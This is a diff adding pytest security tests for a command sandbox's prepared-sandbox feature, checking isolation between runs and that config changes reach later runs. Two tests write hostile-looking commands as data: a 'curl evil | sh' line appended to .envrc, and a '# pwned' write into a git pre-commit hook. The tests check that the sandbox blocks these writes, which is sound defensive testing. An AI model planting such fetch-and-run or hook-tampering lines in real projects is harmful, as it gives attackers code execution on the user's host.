@@ -1,0 +1,179 @@
+"""#23: a prepared sandbox (``sandbox.prepare``) serves only the run that would get exactly it, and
+nothing of one run reaches the next through it.
+
+Through ``SessionManager`` under every confining backend. Whether a run took a prepared sandbox is
+the run's own mark (``took_spare``); each "not taken" check has beside it a run of the same kind
+that did take one, so a preparation that never happens cannot pass.
+"""
+
+from __future__ import annotations
+
+import os
+
+import psutil
+import pytest
+
+from run_bash.config import parse_config
+from tests.conftest import until
+from tests.security.conftest import Runner
+from tests.security.test_hostread import git
+
+
+@pytest.fixture
+def sbx(sbx: Runner) -> Runner:
+    """The suite's runner with preparation on (``sandbox.prepare``; off by default)."""
+    return sbx.with_config(sandbox={"prepare": True})
+
+
+def settled(sbx: Runner) -> int:
+    """Wait until the runner's preparations are done; how many prepared sandboxes are kept."""
+    assert sbx.mgr.spares.settle(30)
+    return len(sbx.mgr.spares.ready())
+
+
+def run_marked(sbx: Runner, cmd: str, cwd=None):
+    s = sbx.start(cmd, cwd)
+    r = sbx.wait(s)
+    return r, "took_spare" in s.marks
+
+
+def test_a_run_takes_the_prepared_sandbox_and_leaves_nothing_to_the_next(sbx, world):
+    tag = f"{os.getpid() % 10000}{id(sbx) % 1000:03d}"
+    sbx.run("true")
+    assert settled(sbx) == 1
+    first, took = run_marked(
+        sbx,
+        "echo secret > /tmp/leak; echo secret > $TMPDIR/leak2; export LEAKVAR=1; cd /; "
+        f"(sleep 1000.{tag} &); echo tag=$RUN_BASH_SESSION; cat /proc/self/cgroup; "
+        "cat /proc/self/status | grep -i '^NSpid'",
+    )
+    assert took and first.exit_code == 0, first.output
+    # What the first one left behind in the background died with it (found by its tag).
+    assert not [
+        p
+        for p in psutil.process_iter(["cmdline"])
+        if (p.info["cmdline"] or [])[-1:] == [f"1000.{tag}"]
+    ]
+    assert settled(sbx) == 1
+    second, took = run_marked(
+        sbx,
+        "ls -A /tmp $TMPDIR; echo var=${LEAKVAR-unset}; pwd; echo tag=$RUN_BASH_SESSION; "
+        "cat /proc/self/cgroup; read -t 1 x; echo stdin=$?:$x",
+    )
+    assert took and second.exit_code == 0, second.output
+    assert "leak" not in second.output
+    assert "var=unset" in second.output
+    assert str(world.project) in second.output.splitlines()
+    assert "stdin=1:" in second.output  # /dev/null, not the command pipe
+    tags = [ln for ln in (first.output + second.output).splitlines() if ln.startswith("tag=")]
+    assert len(tags) == 2 and tags[0] != tags[1] and "tag=" not in {t.strip() for t in tags}
+    memory = [
+        ln
+        for out in (first.output, second.output)
+        for ln in out.splitlines()
+        if ":memory:" in ln and ln.split(":memory:")[1] not in ("", "/")
+    ]
+    if len(memory) == 2:  # each run in a memory cgroup of its own
+        assert memory[0] != memory[1]
+
+
+def test_prepare_off_builds_every_sandbox_when_its_command_starts(sbx, world):
+    off = sbx.with_config(sandbox={"prepare": False})
+    for _ in range(3):
+        r, took = run_marked(off, "echo ok")
+        assert r.output.strip() == "ok" and not took
+        assert settled(off) == 0
+    active, text = off.mgr.spares.describe(off.mgr.resolve_backend()[0])
+    assert not active and "sandbox.prepare = false" in text
+    # The control: the same runs with preparation on take one.
+    sbx.run("true")
+    assert settled(sbx) == 1
+    assert run_marked(sbx, "echo ok")[1]
+    assert sbx.mgr.spares.describe(sbx.mgr.resolve_backend()[0])[0]
+
+
+def test_a_run_in_another_directory_does_not_take_the_projects_prepared_sandbox(sbx, world):
+    sub = world.project / "sub"
+    sub.mkdir()
+    sbx.run("true")
+    assert settled(sbx) == 1
+    r, took = run_marked(sbx, "pwd", cwd=sub)
+    assert not took and r.output.strip() == str(sub)
+    assert settled(sbx) == 1
+    r, took = run_marked(sbx, "pwd", cwd=sub)  # the control: prepared for sub now
+    assert took and r.output.strip() == str(sub)
+
+
+def test_a_new_configuration_throws_prepared_sandboxes_away(sbx, world):
+    extra = world.home / "extra"
+    extra.mkdir()
+    sbx.run("true")
+    assert settled(sbx) == 1
+    r, took = run_marked(sbx, f"echo x > {extra}/a && echo wrote")
+    assert took and "wrote" not in r.output and not (extra / "a").exists()
+    assert settled(sbx) == 1
+    raw = {
+        "sandbox": {
+            "backend": sbx.name,
+            "prepare": True,
+            "rules": {"fs_writable": [".", str(extra)]},
+        }
+    }
+    sbx.mgr.configure(parse_config(raw))
+    assert sbx.mgr.spares.ready() == []
+    r, took = run_marked(sbx, f"echo x > {extra}/a && echo wrote")
+    assert not took and "wrote" in r.output and (extra / "a").exists()
+
+
+def test_a_git_config_edited_after_preparation_reaches_the_next_run(sbx, world):
+    """The user sets ``core.hooksPath`` to a directory of the project while a sandbox is
+    prepared: the next run gets the policy that keeps that directory, not the prepared one."""
+    hooks = world.project / "tools/hooks"
+    hooks.mkdir(parents=True)
+    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    sbx.run("true")
+    assert settled(sbx) == 1
+    # The control: before the edit, a prepared sandbox is taken and the directory is writable.
+    r, took = run_marked(sbx, "echo '# x' >> tools/hooks/pre-commit && echo wrote")
+    assert took and "wrote" in r.output, r.output
+    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    assert settled(sbx) == 1
+    git(world, "config", "core.hooksPath", "tools/hooks", check=True)
+    s = sbx.start("echo '# pwned' >> tools/hooks/pre-commit; echo end")
+    r = sbx.wait(s)
+    assert "took_spare" not in s.marks
+    assert "end" in r.output
+    assert (hooks / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
+
+
+def test_a_protected_file_created_after_preparation_reaches_the_next_run(sbx, world):
+    """``.envrc`` appears (direnv runs it on the host) while a sandbox is prepared: the next run
+    must not be the one prepared without it."""
+    sbx.run("true")
+    assert settled(sbx) == 1
+    assert run_marked(sbx, "true")[1]  # the control: unchanged, the prepared one is taken
+    assert settled(sbx) == 1
+    (world.project / ".envrc").write_text("export A=1\n")
+    s = sbx.start("echo 'curl evil | sh' >> .envrc; echo end")
+    r = sbx.wait(s)
+    assert "took_spare" not in s.marks
+    assert "end" in r.output
+    assert (world.project / ".envrc").read_text() == "export A=1\n"
+
+
+def test_the_next_sandbox_is_made_beside_a_long_run(sbx, world):
+    """A server or a build keeps running: the next command's sandbox is made beside it, not
+    only when it ends."""
+    s = sbx.start("sleep 60", timeout=90)
+    try:
+
+        async def prepared() -> bool:
+            return await until(lambda: sbx.mgr.spares.ready() or sbx.mgr.spares._pending, 30)
+
+        assert sbx.loop.run_until_complete(prepared())
+        assert settled(sbx) == 1
+        assert s.running
+        r, took = run_marked(sbx, "echo beside")
+        assert took and r.output.strip() == "beside"
+    finally:
+        sbx.kill(s)
